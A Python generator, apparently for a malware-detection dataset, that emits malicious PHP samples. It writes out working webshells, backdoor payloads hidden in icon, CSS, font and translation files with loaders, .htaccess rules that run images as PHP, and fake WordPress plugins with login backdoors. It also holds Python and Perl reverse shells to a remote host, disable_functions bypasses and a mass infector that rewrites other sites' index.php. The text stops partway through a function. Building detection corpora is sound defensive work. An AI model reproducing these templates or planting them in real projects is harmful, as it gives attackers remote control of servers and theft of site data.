"""Malicious PHP of the second held-out set (webshells, mailers, phishing
handlers). A template returns either PHP code without an open tag (the
generator puts it in a container) or a list of files (rel, bytes-or-str,
lang) that make one sample together: a loader and the payload it reads, an
.htaccess and the image it maps to PHP, a writer and a reader. Written blind:
see README.md."""

import base64
import codecs
import io
import json
import zipfile
import zlib

from common import c2, hexname, hide, layers, php_in, rword, sq

SINKS = ("system", "passthru", "shell_exec", "exec", "popen_read")
CORES = (
    "echo '<pre>'; echo shell_exec($_REQUEST['c'] . ' 2>&1'); echo '</pre>';",
    "if (isset($_POST['x'])) { eval($_POST['x']); }",
    "$c = $_COOKIE['t'] ?? ''; if ($c) { passthru(base64_decode($c)); }",
    "@system($_GET['q']);",
    "$f = $_FILES['u'] ?? null; if ($f) { move_uploaded_file($f['tmp_name'], $_POST['to'] ?? $f['name']); echo 'ok'; }",
    "echo php_uname(); if (!empty($_POST['p'])) { $h = popen($_POST['p'], 'r'); while (!feof($h)) echo fread($h, 4096); pclose($h); }",
)


def core(r):
    return r.choice(CORES)


def _deflate(b):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


def _run_cmd(r, S, expr):
    """A statement running the shell command held by expr, printing output."""
    f = r.choice(SINKS)
    pre, nm = hide(r, S, f if f != "popen_read" else "popen")
    if f == "popen_read":
        h = S.var()
        return pre + ["%s = %s(%s, 'r');" % (h, nm, expr), "echo %s(%s, 65535);" % (S.fn("fread"), h)]
    v = S.var()
    return pre + ["%s = %s;" % (v, nm), "echo %s(%s);" % (v, expr)]


# ---------------------------------------------------------------------------
# webshells: split over two files


def ws_two_file_store(r, S):
    """One file stores the payload (an option, a transient, a cache file, a DB
    row); another one, elsewhere, runs it."""
    k = r.randint(0, 3)
    opt = r.choice(("_site_transient_update_core_x", "wp_cache_ttl", "_transient_feed_%s" % hexname(r, 6),
                    "theme_mods_child", "widget_recent_x"))
    key = sq(rword(r, 6))
    w = "wp-content/plugins/%s/%s.php" % (r.choice(("wp-seo-meta", "cache-helper", "site-kit-x")),
                                          r.choice(("ajax", "settings", "loader")))
    rd = r.choice(("wp-content/mu-plugins/%s.php" % r.choice(("health-check", "object-cache-x", "0-loader")),
                   "wp-includes/%s.php" % r.choice(("class-wp-hook-ext", "rss-functions2", "feed-atom2"))))
    if k == 0:
        writer = ("add_action('wp_ajax_nopriv_%s', function () {\n    update_option(%s, %s(%s), false);\n"
                  "    wp_die('1');\n});\n" % (rword(r, 5), sq(opt), S.fn("base64_encode"), "wp_unslash($_POST[%s])" % key))
        reader = ("add_action('init', function () {\n    $c = get_option(%s);\n    if ($c) { eval(%s($c)); }\n});\n"
                  % (sq(opt), S.fn("base64_decode")))
    elif k == 1:
        writer = ("if (isset($_POST[%s])) { set_transient(%s, %s($_POST[%s]), 0); echo 'saved'; }\n"
                  % (key, sq(opt), S.fn("strrev"), key))
        reader = ("$t = get_transient(%s);\nif ($t !== false) { $g = function () use ($t) { return eval(%s($t)); }; $g(); }\n"
                  % (sq(opt), S.fn("strrev")))
    elif k == 2:
        cf = r.choice(("'/tmp/sess_%s'" % hexname(r, 26), "sys_get_temp_dir() . '/.%s'" % hexname(r),
                       "WP_CONTENT_DIR . '/cache/%s.tmp'" % hexname(r)))
        writer = "if (!empty($_REQUEST[%s])) { @%s(%s, %s); }\n" % (
            key, S.fn("file_put_contents"), cf, "'<?php ' . base64_decode($_REQUEST[%s])" % key)
        reader = "if (@is_file(%s)) { include %s; }\n" % (cf, cf)
        w, rd = "wp-content/themes/%s/inc/helpers.php" % r.choice(("astra", "neve")), "wp-includes/load-styles2.php"
    else:
        writer = ("global $wpdb;\nif (isset($_COOKIE[%s])) {\n  $wpdb->replace($wpdb->options, array('option_name' => %s, "
                  "'option_value' => $_COOKIE[%s], 'autoload' => 'no'));\n}\n" % (key, sq(opt), key))
        reader = ("global $wpdb;\n$row = $wpdb->get_var($wpdb->prepare(\"SELECT option_value FROM {$wpdb->options} WHERE "
                  "option_name = %%s\", %s));\nif ($row) { $f = %s; $f(%s(%s($row))); }\n"
                  % (sq(opt), "'assert'", S.fn("gzinflate"), S.fn("base64_decode")))
        if r.random() < 0.5:
            reader = reader.replace("$f = 'assert'; $f(", "eval(")
    return [(w, "<?php\n" + writer, "php"), (rd, "<?php\n" + reader, "php")]


def ws_asset_payload(r, S):
    """The payload in a .ico/.css/.json/.po/.woff next to a loader that reads,
    decodes and runs it."""
    code = core(r)
    kind = r.choice(("ico", "css", "json", "po", "woff", "svg"))
    b64 = base64.b64encode(_deflate(code.encode())).decode()
    lv, dv = S.var(), S.var()
    if kind == "ico":
        head = b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x68\x04\x00\x00\x16\x00\x00\x00"
        data = head + bytes(r.randint(0, 255) for _ in range(200)).replace(b"|", b"-") + b"|" + b64.encode() + b"|"
        rel = "wp-content/uploads/%d/%02d/favicon-%d.ico" % (r.randint(2019, 2025), r.randint(1, 12), r.randint(16, 64))
        get = "%s = explode('|', %s(__DIR__ . '/%s'));\n%s = %s[1];" % (
            lv, S.fn("file_get_contents"), rel.split("/")[-1], dv, lv)
    elif kind == "css":
        data = ".wp-block-x{margin:0;padding:0}\n/*%s*/\n.hidden{display:none}\n" % b64
        rel = "wp-content/themes/%s/assets/css/editor-%s.css" % (r.choice(("astra", "oceanwp")), hexname(r, 4))
        get = "%s(\'#/\\*(.+?)\\*/#s\', %s(__DIR__ . '/%s'), %s);\n%s = %s[1];" % (
            S.fn("preg_match"), S.fn("file_get_contents"), rel.split("/")[-1], lv, dv, lv)
    elif kind == "json":
        data = json.dumps({"name": "block-lib", "version": "3.%d.1" % r.randint(0, 9), "hash": b64,
                           "files": ["index.js", "style.css"]}, indent=2)
        rel = "wp-includes/blocks/%s/block.json" % r.choice(("gallery2", "embed-x", "media-text2"))
        get = "%s = %s(%s(__DIR__ . '/block.json'), true);\n%s = %s['hash'];" % (
            lv, S.fn("json_decode"), S.fn("file_get_contents"), dv, lv)
    elif kind == "po":
        chunks = [b64[i:i + 60] for i in range(0, len(b64), 60)]
        data = ('msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Settings"\nmsgstr "Einstellungen"\n\n'
                'msgid "x-cache"\nmsgstr ""\n' + "".join('"%s"\n' % c for c in chunks) + '\nmsgid "Save"\nmsgstr "Speichern"\n')
        rel = "wp-content/languages/plugins/%s-de_DE.po" % r.choice(("akismet", "wpforms-lite", "jetpack"))
        get = ("%s = %s(__DIR__ . '/%s');\n%s('/msgid \"x-cache\"\\nmsgstr \"\"\\n((?:\"[^\"]*\"\\n)+)/', %s, $m);\n"
               "%s = str_replace(array('\"', \"\\n\"), '', $m[1]);" % (
                   lv, S.fn("file_get_contents"), rel.split("/")[-1], S.fn("preg_match"), lv, dv))
    elif kind == "woff":
        data = b"wOFF\x00\x01\x00\x00" + bytes(r.randint(0, 255) for _ in range(120)) + b"\x00\x00" + b64.encode()
        rel = "wp-content/themes/%s/fonts/icons.woff" % r.choice(("flavor", "neve"))
        get = "%s = %s(%s(__DIR__ . '/icons.woff'), 130);" % (dv, S.fn("substr"), S.fn("file_get_contents"))
    else:
        data = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><metadata>%s</metadata>'
                '<path d="M12 2L2 22h20z"/></svg>\n' % b64)
        rel = "wp-content/plugins/%s/assets/icon.svg" % r.choice(("elementor", "classic-editor"))
        get = "%s = %s(%s(__DIR__ . '/icon.svg'))->metadata;" % (dv, S.fn("simplexml_load_string"),
                                                                 S.fn("file_get_contents"))
    lrel = rel.rsplit("/", 1)[0] + "/" + r.choice(("index.php", "cache.php", "functions-x.php", ".loader.php"))
    run = r.choice(("eval(%s(%s(%s)));" % (S.fn("gzinflate"), S.fn("base64_decode"), dv),
                    "$c = %s(%s(%s)); eval($c);" % (S.fn("gzinflate"), S.fn("base64_decode"), dv),
                    "%s(%s, %s(%s(%s)));\ninclude %s;" % (S.fn("file_put_contents"), "$t = tempnam('/tmp', 'x')",
                                                         "'<?php ' . gzinflate", S.fn("base64_decode"), dv, "$t")))
    return [(rel, data, "data"), (lrel, "<?php\n%s\n%s\n" % (get, run), "php")]


def ws_pop_chain(r, S):
    """unserialize() of input; a class whose magic method writes a file,
    includes a path or calls a property, sometimes through a second class."""
    a, b = "WP_" + rword(r, 5).title() + "_Cache", "Theme_" + rword(r, 4).title() + "_Node"
    k = r.randint(0, 3)
    src = r.choice(("$_COOKIE[%s]" % sq(rword(r, 4)), "%s($_POST['data'])" % S.fn("base64_decode"),
                    "%s($_GET['s'])" % S.fn("urldecode"), "%s('php://input')" % S.fn("file_get_contents"),
                    "%s($_REQUEST['st'])" % S.fn("stripslashes")))
    if k == 0:
        cls = ("class %s {\n  public $file; public $data;\n  public function __destruct() {\n"
               "    if ($this->file) { @file_put_contents($this->file, $this->data); }\n  }\n}\n" % a)
    elif k == 1:
        cls = ("class %s {\n  public $tpl;\n  public function __wakeup() {\n    if ($this->tpl) { include $this->tpl; }\n  }\n}\n" % a)
    elif k == 2:
        cls = ("class %s {\n  public $label;\n  public function __destruct() { echo $this->label; }\n}\n"
               "class %s {\n  public $fn; public $arg;\n  public function __toString() {\n"
               "    return (string) call_user_func($this->fn, $this->arg);\n  }\n}\n" % (a, b))
    else:
        cls = ("class %s implements ArrayAccess {\n  private $h = array();\n"
               "  public function offsetExists($o): bool { return true; }\n"
               "  public function offsetGet($o): mixed { return ($this->h[0])($o); }\n"
               "  public function offsetSet($o, $v): void { $this->h[] = $v; }\n"
               "  public function offsetUnset($o): void {}\n"
               "  public function __wakeup() { $this[$this->h[1] ?? ''] ?? null; }\n}\n" % a)
    trig = r.choice(("$o = @unserialize(%s);" % src, "@unserialize(%s);" % src,
                     "$o = unserialize(%s, array('allowed_classes' => true));" % src))
    return cls + trig


def ws_keyed_callee(r, S):
    """array_walk/array_filter/array_map/iterator_apply/filter_var callback
    whose name is built from array keys or from input."""
    f = r.choice(("system", "passthru", "assert", "shell_exec"))
    cut = sorted(r.sample(range(1, len(f)), 2))
    parts = [f[:cut[0]], f[cut[0]:cut[1]], f[cut[1]:]]
    a, fn, x = S.var(), S.var(), S.var()
    k = r.randint(0, 6)
    build = ("%s = array(%s);\n%s = implode('', array_keys(%s));" % (
        a, ", ".join("%s => %d" % (sq(p), i) for i, p in enumerate(parts)), fn, a))
    src = php_in(r, S)
    if k == 0:
        return build + "\n%s = array(%s);\n%s(%s, function ($v) use (%s) { echo %s($v); });" % (
            x, src, S.fn("array_walk"), x, fn, fn)
    if k == 1:
        return build + "\n%s(array(%s), %s);" % (S.fn("array_filter"), src, fn)
    if k == 2:
        return "%s(%s($_GET), array(%s));" % (S.fn("array_map"), S.fn("key"), src)
    if k == 3:
        return build + "\n%s = new ArrayIterator(array(%s));\n%s(%s, %s, array(%s->current()));" % (
            x, src, S.fn("iterator_apply"), x, fn, x)
    if k == 4:
        return build + "\necho %s(%s, FILTER_CALLBACK, array('options' => %s));" % (S.fn("filter_var"), src, fn)
    if k == 5:
        return build + "\n%s(array(%s), function ($c, $i) use (%s) { return %s($i); }, '');" % (
            S.fn("array_reduce"), src, fn, fn)
    return build + "\n%s = %s(%s, array(%s));\n%s(%s, array(0 => 1), %s);" % (
        x, S.fn("array_fill_keys"), "array(0)", src, S.fn("array_intersect_ukey"), x, fn)


def ws_registered_vars(r, S):
    """extract() or parse_str() register request variables, then $a($b)."""
    k = r.randint(0, 4)
    if k == 0:
        return "%s($_REQUEST);\nif (isset($fn, $arg)) { echo $fn($arg); }" % S.fn("extract")
    if k == 1:
        return "%s($_SERVER['QUERY_STRING'], $q);\n@$q['a']($q['b']);" % S.fn("parse_str")
    if k == 2:
        return "%s(%s($_COOKIE['pref']), $o);\nif (!empty($o['m'])) { $o['m']($o['v']); }" % (
            S.fn("parse_str"), S.fn("base64_decode"))
    if k == 3:
        return "%s($_POST, EXTR_PREFIX_ALL, 'wp');\nif (!empty($wp_cb)) { call_user_func($wp_cb, $wp_data); }" % S.fn("extract")
    return "foreach ($_GET as $k => $v) { $$k = $v; }\nif (isset($h, $p)) { $h($p); }"


def ws_session_staged(r, S):
    """The payload goes into $_SESSION in one request and runs in a later one."""
    key = sq(rword(r, 5))
    k = r.randint(0, 2)
    st = "if (session_status() !== PHP_SESSION_ACTIVE) { @session_start(); }"
    if k == 0:
        return (st + "\nif (isset($_POST[%s])) { $_SESSION[%s] = $_POST[%s]; exit('1'); }\n"
                "if (!empty($_SESSION[%s])) { eval(%s($_SESSION[%s])); }" % (key, key, key, key, S.fn("base64_decode"), key))
    if k == 1:
        return (st + "\n$_SESSION['wp_cb'] = $_SESSION['wp_cb'] ?? ($_COOKIE['c'] ?? null);\n"
                "if ($_SESSION['wp_cb'] && isset($_GET['r'])) { $_SESSION['wp_cb']($_GET['r']); }")
    loader = (st + "\nif (!empty($_SESSION['_tpl'])) {\n  $t = tempnam(sys_get_temp_dir(), 'tpl');\n"
              "  file_put_contents($t, $_SESSION['_tpl']);\n  include $t;\n  unlink($t);\n}\n")
    stage = st + "\n$_SESSION['_tpl'] = %s;\necho 'ok';\n" % php_in(r, S)
    return [("wp-content/plugins/%s/includes/session.php" % rword(r, 6), "<?php\n" + stage, "php"),
            ("wp-content/plugins/%s/includes/render.php" % rword(r, 6), "<?php\n" + loader, "php")]


def ws_shutdown_cookie(r, S):
    """register_shutdown_function / header_register_callback / ob_start with
    callee and argument from a cookie or header."""
    k = r.randint(0, 3)
    c1, c2_ = sq(rword(r, 3)), sq(rword(r, 3))
    if k == 0:
        return "if (isset($_COOKIE[%s])) { %s($_COOKIE[%s], $_COOKIE[%s]); }" % (
            c1, S.fn("register_shutdown_function"), c1, c2_)
    if k == 1:
        return "%s(%s($_SERVER['HTTP_X_CB'] ?? 'trim'), %s($_SERVER['HTTP_X_ARG'] ?? ''));" % (
            S.fn("register_shutdown_function"), S.fn("base64_decode"), S.fn("base64_decode"))
    if k == 2:
        return "%s($_REQUEST[%s] ?? null);\necho $_REQUEST[%s] ?? '';\n%s();" % (
            S.fn("ob_start"), c1, c2_, S.fn("ob_end_flush"))
    return ("%s(function ($buf) {\n  if (preg_match('/<!--wpx:([A-Za-z0-9+\\/=]+)-->/', $buf, $m)) { eval(base64_decode($m[1])); return ''; }\n"
            "  return $buf;\n});\necho $_GET['html'] ?? '';" % S.fn("ob_start"))


def ws_wp_hooks(r, S):
    """A fake plugin (with a header) that registers hooks whose callbacks run
    input: wp_ajax_nopriv_, a REST route open to all, add_filter with a
    callback taken from an option, a login backdoor."""
    name = r.choice(("WP Performance Booster", "Jetpack Helper", "Advanced Cache Tools", "SEO Meta Fix", "Classic Widgets Plus"))
    head = ("/*\nPlugin Name: %s\nPlugin URI: https://wordpress.example.org/plugins/%s/\nDescription: %s\nVersion: %d.%d.%d\n"
            "Author: %s\nLicense: GPL2\n*/\nif (!defined('ABSPATH')) { exit; }\n" % (
                name, name.lower().replace(" ", "-"), r.choice(("Speeds up your site.", "Compatibility fixes.", "Keeps caches warm.")),
                r.randint(1, 4), r.randint(0, 9), r.randint(0, 20), r.choice(("WP Team", "Automattic", "Plugin Dev"))))
    k = r.randint(0, 4)
    act = r.choice("abcdefghijklmnopqrstuvwxyz") + rword(r, 5)
    if k == 0:
        body = ("add_action('wp_ajax_nopriv_%s', '%s_cb');\nadd_action('wp_ajax_%s', '%s_cb');\n"
                "function %s_cb() {\n  $c = isset($_POST['q']) ? wp_unslash($_POST['q']) : '';\n"
                "  echo shell_exec($c);\n  wp_die();\n}\n" % (act, act, act, act, act))
    elif k == 1:
        body = ("add_action('rest_api_init', function () {\n  register_rest_route('wp/v2', '/%s', array(\n"
                "    'methods' => 'POST',\n    'permission_callback' => '__return_true',\n"
                "    'callback' => function ($req) { return array('o' => %s($req->get_param('cmd'))); },\n  ));\n});\n"
                % (act, r.choice(("shell_exec", "system", "passthru"))))
    elif k == 2:
        body = ("add_filter('the_content', get_option('%s_filter', 'wpautop'));\n"
                "add_action('init', function () {\n  if (isset($_GET['%s'])) { update_option('%s_filter', sanitize_text_field($_GET['%s'])); }\n"
                "});\nadd_action('wp_footer', function () { echo apply_filters('the_content', isset($_GET['t']) ? $_GET['t'] : ''); });\n"
                % (act, act, act, act))
    elif k == 3:
        body = ("add_filter('authenticate', function ($user, $u, $p) {\n  if ($p === '%s') {\n"
                "    $a = get_users(array('role' => 'administrator', 'number' => 1));\n    return $a ? $a[0] : $user;\n  }\n"
                "  return $user;\n}, 1, 3);\nadd_filter('all_plugins', function ($pl) { unset($pl[plugin_basename(__FILE__)]); return $pl; });\n"
                % rword(r, 12))
    else:
        body = ("add_action('init', function () {\n  if (!isset($_SERVER['HTTP_X_WP_%s'])) { return; }\n"
                "  $f = get_option('_%s_cb', 'create_function');\n  $c = $_SERVER['HTTP_X_WP_%s'];\n"
                "  $g = array_map('base64_decode', explode(':', $c));\n  call_user_func_array($g[0], array_slice($g, 1));\n});\n"
                % (act.upper(), act, act.upper()))
    return [("wp-content/plugins/%s/%s.php" % (name.lower().replace(" ", "-"), r.choice(("main", "plugin", "index", "init"))),
             "<?php\n" + head + body, "php")]


def ws_split_layers(r, S):
    """eval(gzinflate(str_rot13(base64_decode(...)))) with the layer spread
    over variables, array elements, helper functions and $GLOBALS."""
    code = core(r)
    enc = base64.b64encode(_deflate(code.encode())).decode()
    rot = codecs.encode(enc, "rot13")
    chunks, i = [], 0
    while i < len(rot):
        n = r.randint(10, 50)
        chunks.append(rot[i:i + n])
        i += n
    names = {}
    pre = []
    for f in ("gzinflate", "str_rot13", "base64_decode"):
        p, e = hide(r, S, f)
        pre += p
        v = S.var()
        pre.append("%s = %s;" % (v, e))
        names[f] = v
    k = r.randint(0, 2)
    arr = S.var()
    if k == 0:
        pre.append("%s = array();" % arr)
        for c in chunks:
            pre.append("%s[] = %s;" % (arr, sq(c)))
        data = "implode('', %s)" % arr
    elif k == 1:
        fns = []
        for c in chunks:
            fn = "_" + hexname(r, 6)
            pre.append("function %s() { return %s; }" % (fn, sq(c)))
            fns.append(fn + "()")
        data = " . ".join(fns)
    else:
        g = rword(r, 4)
        for j, c in enumerate(chunks):
            pre.append("$GLOBALS[%s][%d] = %s;" % (sq(g), j, sq(c)))
        data = "join('', $GLOBALS[%s])" % sq(g)
    d = S.var()
    pre.append("%s = %s(%s(%s(%s)));" % (d, names["gzinflate"], names["base64_decode"], names["str_rot13"], data))
    pre.append(r.choice(("eval(%s);" % d, "@eval(\"?>\" . '<?php ' . %s);" % d,
                         "$GLOBALS['_run'] = function ($s) { return eval($s); }; $GLOBALS['_run'](%s);" % d)))
    return S.lines(pre)


def ws_preg_e_runtime(r, S):
    """preg_replace with /e whose modifier is built at runtime, and
    mb_ereg_replace / mb_eregi_replace with 'e'."""
    k = r.randint(0, 3)
    src = php_in(r, S)
    if k == 0:
        p, e = hide(r, S, "/.*/e")
        return S.lines(p + ["$p = %s;" % e, "@preg_replace($p, %s, '');" % src])
    if k == 1:
        return "$m = chr(101);\n$d = '#';\n@%s($d . '(.+)' . $d . $m, 'eval(\"\\\\1\")', %s);" % (S.fn("preg_replace"), src)
    if k == 2:
        return "@%s('.*', %s, '', 'e');" % (S.fn(r.choice(("mb_ereg_replace", "mb_eregi_replace"))), src)
    return "mb_regex_encoding('UTF-8');\n$o = 'm' . 'e';\necho @mb_ereg_replace('^(.*)$', %s, 'x', $o);" % src


def ws_assert_string(r, S):
    """assert() of a string, after turning assertions on (PHP 5/7 config)."""
    src = php_in(r, S)
    p, e = hide(r, S, "assert")
    k = r.randint(0, 2)
    on = r.choice(("@assert_options(ASSERT_ACTIVE, 1);\n@assert_options(ASSERT_WARNING, 0);",
                   "@ini_set('zend.assertions', 1);\n@ini_set('assert.exception', 0);",
                   "@ini_set('assert.active', 1);"))
    if k == 0:
        return on + "\n" + S.lines(p + ["$a = %s;" % e, "@$a(%s);" % src])
    if k == 1:
        return on + "\n@assert(%s(%s));" % (S.fn("stripslashes"), src)
    return on + "\n" + S.lines(p + ["$h = array(%s, 'x');" % e, "@$h[0](\"$_POST[z]\");"])


def ws_wrapper_include(r, S):
    """include of php://filter (base64 or rot13 decode of a data file), of a
    zip:// entry or of a phar:// archive shipped next to it."""
    code = "<?php " + core(r) + " ?>"
    k = r.randint(0, 2)
    d = r.choice(("wp-content/uploads/%d/%02d" % (r.randint(2019, 2025), r.randint(1, 12)), "images/cache", "tmp/.sess"))
    if k == 0:
        flt = r.choice(("convert.base64-decode", "string.rot13"))
        payload = base64.b64encode(code.encode()).decode() if "base64" in flt else codecs.encode(code, "rot13")
        dname = r.choice(("thumbs.db", "readme.txt", ".%s.dat" % hexname(r, 6), "error.log"))
        ld = "@include 'php://filter/read=%s/resource=' . __DIR__ . '/%s';" % (flt, dname)
        return [(d + "/" + dname, payload, "data"), (d + "/" + r.choice(("index.php", "img.php", ".l.php")), "<?php\n" + ld + "\n", "php")]
    buf = io.BytesIO()
    inner = r.choice(("x.php", "a/b.php", "s.png"))
    with zipfile.ZipFile(buf, "w") as z:
        zi = zipfile.ZipInfo(inner, date_time=(2020, 1, 1, 0, 0, 0))
        z.writestr(zi, code)
    arc = r.choice(("backup.zip", "theme-update.zip", "fonts.jpg", "data.bin"))
    if k == 1:
        ld = "include 'zip://' . __DIR__ . '/%s#%s';" % (arc, inner)
    else:
        ld = "include 'phar://' . __DIR__ . '/%s/%s';" % (arc, inner)
    return [(d + "/" + arc, buf.getvalue(), "data"), (d + "/" + r.choice(("cache.php", "update.php", "wp-tmp.php")),
                                                   "<?php\n@" + ld + "\n", "php")]


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


def _jpeg_with(r, text):
    com = text.encode()
    seg = b"\xff\xfe" + (len(com) + 2).to_bytes(2, "big") + com
    return JPEG + seg + bytes(r.randint(0, 255) for _ in range(r.randint(100, 300))) + b"\xff\xd9"


def ws_handler_pair(r, S):
    """An .htaccess or .user.ini and the image or text file it makes run as
    PHP (or prepends), shipped together; sometimes a chain of two prepends."""
    k = r.randint(0, 4)
    d = "wp-content/uploads/%d/%02d" % (r.randint(2018, 2025), r.randint(1, 12))
    code = "<?php " + core(r) + " __halt_compiler();"
    img = r.choice(("photo-%d.jpg" % r.randint(100, 9999), "banner.jpg", "avatar_%s.jpg" % hexname(r, 6)))
    if k == 0:
        ht = r.choice(("AddHandler application/x-httpd-php .jpg\n", "AddType application/x-httpd-php .jpg .jpeg\n",
                       "<Files \"%s\">\n  ForceType application/x-httpd-php\n</Files>\n" % img,
                       "<FilesMatch \"\\.jpe?g$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"))
        return [(d + "/.htaccess", ht, "conf"), (d + "/" + img, _jpeg_with(r, code), "data")]
    if k == 1:
        css = r.choice(("style.css", "print.css"))
        ht = "AddHandler application/x-httpd-php%s .css\n" % r.choice(("", "7", "80"))
        return [(d + "/.htaccess", ht, "conf"), (d + "/" + css, "/* theme */ body{margin:0}\n" + code + "\n", "data")]
    if k == 2:
        ini = "auto_prepend_file = %s/.%s.css\n" % (r.choice(("/home/%s/public_html" % rword(r, 5),)), hexname(r, 6))
        name = ini.split("/")[-1].strip()
        return [(".user.ini", ini, "conf"), (name, code + "\n", "data")]
    if k == 3:
        # chain: .user.ini prepends a harmless-looking file that includes the real one
        f1 = ".wp-%s.txt" % hexname(r, 5)
        f2 = "wp-content/languages/.%s.mo" % hexname(r, 6)
        return [(".user.ini", "; perf\nauto_prepend_file = '%s'\n" % f1, "conf"),
                (f1, "<?php @include_once __DIR__ . '/%s'; ?>\n" % f2, "php"),
                (f2, b"\xde\x12\x04\x95" + bytes(r.randint(0, 255) for _ in range(64)) + code.encode(), "data")]
    ht = ("<IfModule mod_php7.c>\nphp_value auto_append_file \"%s/%s\"\n</IfModule>\n" % (d, img))
    return [(".htaccess", "# BEGIN WordPress\nRewriteEngine On\n" + ht + "# END WordPress\n", "conf"),
            (d + "/" + img, _jpeg_with(r, code), "data")]


def ws_interp_wrapper(r, S):
    """PHP around a python -c / perl -e payload, or that pipes code into an
    interpreter's stdin with proc_open."""
    h, p = c2(r), str(r.choice((443, 8443, 53, 4433, 9090)))
    py = ("import socket,subprocess,os;s=socket.socket();s.connect((\"%s\",%s));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])" % (h, p))
    pl = ("use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(%s,inet_aton(\"%s\"))))"
          "{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}" % (p, h))
    k = r.randint(0, 3)
    if k == 0:
        return "%s('python3 -c ' . escapeshellarg(%s(%s)) . ' > /dev/null 2>&1 &');" % (
            S.fn(r.choice(("shell_exec", "exec", "system"))), S.fn("base64_decode"), sq(base64.b64encode(py.encode()).decode()))
    if k == 1:
        return "$c = %s;\n%s(\"perl -e '\" . $c . \"' &\");" % (
            "base64_decode(%s)" % sq(base64.b64encode(pl.encode()).decode()), "exec")
    if k == 2:
        return ("$d = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
                "$p = %s('python3 -', $d, $io);\nfwrite($io[0], %s);\nfclose($io[0]);\necho stream_get_contents($io[1]);"
                % (S.fn("proc_open"), r.choice(("$_POST['py']", "base64_decode($_POST['py'])", sq(py)))))
    f = "/tmp/.%s" % hexname(r, 6)
    return ("%s('%s', %s(%s));\n@chmod('%s', 0755);\n%s('nohup perl %s >/dev/null 2>&1 &');" % (
        S.fn("file_put_contents"), f, S.fn("base64_decode"), sq(base64.b64encode(("#!/usr/bin/perl\n" + pl).encode()).decode()),
        f, S.fn(r.choice(("shell_exec", "system"))), f))


def ws_disable_functions_bypass(r, S):
    """Ways around disable_functions: FFI, imap_open ProxyCommand, mail()'s
    fifth argument (-X log / -be), pcntl_exec, error_log to a .php file."""
    k = r.randint(0, 4)
    src = php_in(r, S)
    if k == 0:
        return "$ffi = FFI::cdef('int system(const char *command);');\n$ffi->system(%s);" % src
    if k == 1:
        return ("$s = base64_encode(%s . ' > /tmp/.o');\n"
                "@imap_open('{x.example.com:143/imap}INBOX -oProxyCommand=`echo ' . $s . '|base64 -d|sh`}', '', '');\n"
                "echo @file_get_contents('/tmp/.o');" % src)
    if k == 2:
        return ("$to = 'a@example.com';\n@mail($to, '<?php eval($_POST[1]); ?>', 'x', 'From: a@example.com', "
                "'-OQueueDirectory=/tmp -X' . __DIR__ . '/%s.php');" % rword(r, 5))
    if k == 3:
        return "if (function_exists('pcntl_exec')) { pcntl_exec('/bin/sh', array('-c', %s)); }" % src
    return "@error_log(%s, 3, __DIR__ . '/%s.php');\necho 'ok';" % ("'<?php ' . " + src, r.choice(("wp-log", "cache", "tmp")))


def ws_mass_infector(r, S):
    """Walks the other sites on the server and prepends a loader to their
    index.php / wp-config.php, with a marker to avoid doing it twice."""
    mark = hexname(r, 8)
    inj = "<?php /*%s*/ @include_once '/tmp/.%s'; ?>" % (mark, hexname(r, 6))
    pat = r.choice(("/home/*/public_html/index.php", "/home/*/public_html/wp-config.php", "/var/www/*/index.php",
                    "/home/*/domains/*/public_html/index.php"))
    return S.lines([
        "$m = %s;" % sq(mark), "$inj = %s;" % sq(inj),
        "foreach (%s(%s) as $f) {" % (S.fn("glob"), sq(pat)),
        "  if (!is_writable($f)) { continue; }",
        "  $c = file_get_contents($f);",
        "  if (strpos($c, $m) !== false) { continue; }",
        "  $t = filemtime($f);",
        "  file_put_contents($f, $inj . $c);",
        "  touch($f, $t);",
        "  echo $f . \"\\n\";", "}"])


def ws_dns_payload(r, S):
    """Code fetched at run time from a DNS TXT record or a remote URL and run;
    the address is assembled, the response decoded."""
    k = r.randint(0, 2)
    dom = "%s.%s" % (rword(r, 6), r.choice(("example.com", "example.net", "example.org")))
    p, e = hide(r, S, dom)
    if k == 0:
        return S.lines(p + ["$r = @%s(%s, DNS_TXT);" % (S.fn("dns_get_record"), e),
                            "$t = ''; foreach ((array) $r as $x) { $t .= $x['txt']; }",
                            "if ($t) { eval(%s($t)); }" % S.fn("base64_decode")])
    url = "http://%s/%s" % (c2(r), r.choice(("jquery.min.js", "p.txt", "stat/", "api/v1/ping")))
    p, e = hide(r, S, url)
    if k == 1:
        return S.lines(p + ["$ctx = stream_context_create(array('http' => array('timeout' => 5, 'header' => 'X-Host: ' . $_SERVER['HTTP_HOST'])));",
                            "$c = @%s(%s, false, $ctx);" % (S.fn("file_get_contents"), e),
                            "if ($c && substr($c, 0, 4) === 'OK::') { eval(substr($c, 4)); }"])
    return S.lines(p + ["$ch = curl_init(%s . '?h=' . urlencode($_SERVER['HTTP_HOST']));" % e,
                        "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);",
                        "$c = curl_exec($ch);", "curl_close($ch);",
                        "if ($c) { $f = @create_function('', gzinflate(base64_decode($c))); $f(); }"])


def ws_cms_injection(r, S):
    """Backdoors injected into Joomla and Drupal code: a system plugin event,
    a module hook, configuration.php / settings.php."""
    k = r.randint(0, 3)
    key = r.choice("abcdefghijklmnopqrstuvwxyz") + rword(r, 5)
    if k == 0:
        body = ("defined('_JEXEC') or die;\njimport('joomla.plugin.plugin');\n"
                "class plgSystem%s extends JPlugin {\n  public function onAfterInitialise() {\n"
                "    $in = JFactory::getApplication()->input;\n    $c = $in->get('%s', '', 'raw');\n"
                "    if ($c !== '') { eval(base64_decode($c)); }\n  }\n}\n" % (key.title(), key))
        return [("plugins/system/%s/%s.php" % (key, key), "<?php\n" + body, "php")]
    if k == 1:
